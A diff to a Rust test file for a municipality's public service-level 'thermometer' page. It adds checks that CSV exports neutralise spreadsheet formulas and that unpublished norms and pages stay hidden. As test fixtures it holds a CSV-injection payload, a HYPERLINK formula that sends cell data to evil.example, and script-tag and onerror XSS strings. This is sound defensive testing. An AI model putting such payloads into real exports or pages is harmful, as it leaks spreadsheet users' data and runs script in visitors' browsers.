@@ -3,7 +3,10 @@
 //! and all three agree with GetThermometer for the period and for each period of the
 //! trend; Dutch by default and English with `lang=en`; `embed=1` without chrome and
 //! framable; a bad query is a 400 in the page's language; tenant-provided text is
-//! escaped; the headers say what may be cached, framed and run.
+//! escaped; the headers say what may be cached, framed and run; CSV cells a spreadsheet
+//! would run as formulas are text. Only what a tenant publishes is public: an unpublished
+//! norm is left out of the page, its JSON and CSV (GetThermometer and the dashboard still
+//! show it), and a page not published answers exactly as an unknown tenant's.
 
 use base64::Engine;
 use midoffice_tests::http::{get, send};
@@ -15,12 +18,16 @@ use sha2::{Digest, Sha256};
 const HOSTILE_NAME: &str = "Gemeente <script>alert(1)</script> & \"Co\"";
 const HOSTILE_EXPLANATION: &str =
     "Te druk, \"sorry\".\n<script>alert('x')</script><img src=x onerror=alert(1)>";
+/// An explanation a spreadsheet would run as a formula, were it not written as text.
+const FORMULA_EXPLANATION: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")";
 
-/// Phone contacts from July to October 2026: every July call answered within the norm's
-/// 25 seconds, fewer each month after (October: half), so the statuses differ.
+/// A published page. Phone contacts from July to October 2026: every July call answered
+/// within the norm's 25 seconds, fewer each month after (October: half), so the
+/// statuses differ.
 async fn fixture(b: &Backend) {
     b.change_settings(TENANT, |s| {
         s.public_page = Some(pb::PublicPage {
+            published: true,
             display_name: HOSTILE_NAME.into(),
             logo_url: "https://www.gemeente-a.example/logo.svg".into(),
             accessibility_statement_url: "https://www.toegankelijkheidsverklaring.nl/register/1"
@@ -28,6 +35,8 @@ async fn fixture(b: &Backend) {
             primary_colour: "#0b5394".into(),
         });
         s.norms[0].explanation = HOSTILE_EXPLANATION.into();
+        // The counter has no data: not green, so its explanation is shown.
+        s.norms[1].explanation = FORMULA_EXPLANATION.into();
     })
     .await;
     for (month, slow) in [(7, 0), (8, 1), (9, 2), (10, 5)] {
@@ -179,6 +188,8 @@ async fn html_json_and_csv_agree_with_get_thermometer(database: TestDatabase) {
             }
         }
         assert_eq!(norms[0]["explanation"], HOSTILE_EXPLANATION);
+        // JSON is not a spreadsheet: the text as the tenant wrote it.
+        assert_eq!(norms[1]["explanation"], FORMULA_EXPLANATION);
         assert_eq!(norms[0]["trend"][2]["status"], "GREEN");
 
         // CSV: a row per norm for October and each earlier month.
@@ -206,9 +217,24 @@ async fn html_json_and_csv_agree_with_get_thermometer(database: TestDatabase) {
                 assert_eq!(row[7], r.met.to_string());
                 assert_eq!(row[8], r.items.to_string());
                 assert_eq!(row[9], status_name(r.status));
-                assert_eq!(row[10], r.explanation);
+                // Text a spreadsheet would run starts with an apostrophe.
+                let formula = r.explanation.starts_with(['=', '+', '-', '@']);
+                let written = if formula {
+                    format!("'{}", r.explanation)
+                } else {
+                    r.explanation.clone()
+                };
+                assert_eq!(row[10], written);
             }
         }
+        assert_eq!(october[1].explanation, FORMULA_EXPLANATION);
+        assert_eq!(rows[2][10], format!("'{FORMULA_EXPLANATION}"));
+        assert!(
+            a.body
+                .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Klik\"\")\""),
+            "{}",
+            a.body
+        );
 
         // HTML, in Dutch.
         let a = get(&b, &format!("/thermometer/{TENANT}?{OCTOBER}")).await;
@@ -342,28 +368,139 @@ async fn bad_requests_are_refused_in_plain_words(database: TestDatabase) {
             assert_eq!(a.status, 404, "{path}: {}", a.body);
             assert!(!a.body.contains('<'), "{path}: {}", a.body);
         }
+        // The queries above were refused before publishing was looked at; a page is
+        // found once the tenant publishes it.
+        b.change_settings(TENANT, |s| {
+            s.public_page.get_or_insert_default().published = true;
+        })
+        .await;
         let a = send(&b, "HEAD", &format!("/thermometer/{TENANT}.csv")).await;
         assert_eq!(a.status, 200, "{}", a.body);
         assert_eq!(a.body, "", "HEAD has no body");
         let a = send(&b, "POST", &format!("/thermometer/{TENANT}")).await;
         assert_eq!(a.status, 405, "{}", a.body);
         assert_eq!(a.header("allow"), Some("GET, HEAD"));
-        // A tenant without settings or contacts: the default norms, without data.
+        // A tenant without settings or contacts has not published a page.
         let a = get(
             &b,
             "/thermometer/gemeente-nergens.json?from=2026-10-01&to=2026-10-31",
         )
         .await;
+        assert_eq!(a.status, 404, "{}", a.body);
+    })
+    .await;
+}
+
+/// The parts of an answer a stranger could compare: status, body and headers.
+fn seen(a: &midoffice_tests::http::Answer) -> (u16, String, Vec<(String, String)>) {
+    let mut headers: Vec<(String, String)> = a
+        .headers
+        .iter()
+        .filter(|(name, _)| !name.eq_ignore_ascii_case("date"))
+        .cloned()
+        .collect();
+    headers.sort();
+    (a.status, a.body.clone(), headers)
+}
+
+database_test!(only_published_norms_of_a_published_page_are_public);
+async fn only_published_norms_of_a_published_page_are_public(database: TestDatabase) {
+    on_backend(database, |b| async move {
+        fixture(&b).await;
+        let hidden = "email-answered";
+        b.change_settings(TENANT, |s| {
+            let norm = s.norms.iter_mut().find(|n| n.id == hidden).unwrap();
+            norm.published = Some(false);
+        })
+        .await;
+        let settings = b.settings(TENANT).await;
+        let norm = settings.norms.iter().find(|n| n.id == hidden).unwrap();
+        assert_eq!(
+            norm.published,
+            Some(false),
+            "the admin API keeps the choice"
+        );
+        assert!(settings.public_page.unwrap().published);
+        let title = norm.title.clone();
+
+        // GetThermometer shows every norm, the unpublished one too.
+        let october = thermometer(&b, TENANT, 10).await;
+        assert_eq!(october.len(), 8);
+        assert!(october.iter().any(|r| r.norm_id == hidden));
+
+        // The page, its JSON and its CSV leave it out, in every period of the trend.
+        let a = get(&b, &format!("/thermometer/{TENANT}.json?{OCTOBER}")).await;
         assert_eq!(a.status, 200, "{}", a.body);
         let json: serde_json::Value = serde_json::from_str(&a.body).unwrap();
-        assert_eq!(json["name"], "gemeente-nergens");
-        let norms = json["norms"].as_array().unwrap();
-        assert_eq!(norms.len(), 8);
-        assert!(
-            norms
-                .iter()
-                .all(|n| n["status"] == "NO_DATA" && n["items"] == 0)
-        );
+        let ids: Vec<&str> = json["norms"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|n| n["id"].as_str().unwrap())
+            .collect();
+        let published: Vec<&str> = october
+            .iter()
+            .map(|r| r.norm_id.as_str())
+            .filter(|id| *id != hidden)
+            .collect();
+        assert_eq!(ids, published);
+        let a = get(&b, &format!("/thermometer/{TENANT}.csv?{OCTOBER}")).await;
+        assert_eq!(a.status, 200, "{}", a.body);
+        let rows = parse_csv(&a.body);
+        assert_eq!(rows.len(), 1 + 4 * 7, "7 norms in 4 periods");
+        assert!(rows.iter().all(|r| r[2] != hidden), "{}", a.body);
+        assert!(!a.body.contains(hidden) && !a.body.contains(&title));
+        for lang in ["", "&lang=en", "&embed=1"] {
+            let a = get(&b, &format!("/thermometer/{TENANT}?{OCTOBER}{lang}")).await;
+            assert_eq!(a.status, 200, "{}", a.body);
+            assert!(!a.body.contains(&title), "{lang}: {}", a.body);
+            assert!(a.body.contains(&october[0].title), "{lang}");
+            assert_eq!(
+                a.body.matches("<section class=\"norm ").count(),
+                7,
+                "{lang}"
+            );
+        }
+        // The dashboard, for credentialed users (open to loopback here), shows it.
+        let a = get(
+            &b,
+            &format!("/dashboard/{TENANT}?from=2026-07-01&to=2026-10-31"),
+        )
+        .await;
+        assert_eq!(a.status, 200, "{}", a.body);
+        assert!(a.body.contains(&title), "the dashboard shows every norm");
+
+        // A page not published answers as a tenant that does not exist, on every
+        // address and in either language: nothing tells the two apart.
+        b.change_settings(TENANT, |s| {
+            s.public_page.as_mut().unwrap().published = false;
+        })
+        .await;
+        for rest in [
+            "",
+            ".json",
+            ".csv",
+            "?lang=en",
+            ".csv?from=2026-10-01&to=2026-10-31",
+        ] {
+            let unpublished = get(&b, &format!("/thermometer/{TENANT}{rest}")).await;
+            let unknown = get(&b, &format!("/thermometer/gemeente-nergens{rest}")).await;
+            assert_eq!(unpublished.status, 404, "{rest}: {}", unpublished.body);
+            assert!(!unpublished.body.contains(HOSTILE_NAME), "{rest}");
+            assert_eq!(seen(&unpublished), seen(&unknown), "{rest}");
+        }
+        let a = send(&b, "HEAD", &format!("/thermometer/{TENANT}")).await;
+        assert_eq!(a.status, 404);
+        // The figures stay for credentialed users.
+        assert_eq!(thermometer(&b, TENANT, 10).await, october);
+
+        // Published again, the page is back as it was.
+        b.change_settings(TENANT, |s| {
+            s.public_page.as_mut().unwrap().published = true;
+        })
+        .await;
+        let a = get(&b, &format!("/thermometer/{TENANT}.json?{OCTOBER}")).await;
+        assert_eq!(a.status, 200, "{}", a.body);
     })
     .await;
 }
@@ -372,7 +509,8 @@ async fn bad_requests_are_refused_in_plain_words(database: TestDatabase) {
 /// WCAG 2.1 A/AA violation, readable at 320 and 1280 px, a visible focus, no script
 /// needed; screenshots go to `target/browser-artifacts` (or `THERMOMETER_ARTIFACTS`).
 /// Ignored by default, as it needs Chromium (`CHROMIUM`, default `/usr/bin/chromium`)
-/// and `npm ci` in `tests/browser`; `.ci/run` installs both and runs it.
+/// and `npm ci` in `tests/browser`; `.ci/run` installs both and runs it. The dashboard's
+/// browser test runs on the demo's data: `crates/midoffice/tests/demo.rs`.
 #[tokio::test]
 #[ignore = "needs Chromium and the npm packages of tests/browser; .ci/run runs it"]
 async fn browser() {
